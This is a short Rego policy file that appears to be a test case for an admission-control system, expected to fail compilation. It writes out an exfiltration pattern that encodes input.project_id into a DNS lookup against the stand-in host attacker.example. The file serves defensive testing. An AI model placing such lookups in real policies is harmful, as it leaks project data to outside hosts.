# attacks: DNS lookups from the control plane (exfiltration by name, internal discovery)
# expect: compile_error
package wb.admission

deny contains msg if {
	addrs := net.lookup_ip_addr(concat(".", [input.project_id, "attacker.example"]))
	msg := sprintf("%v", [addrs])
}
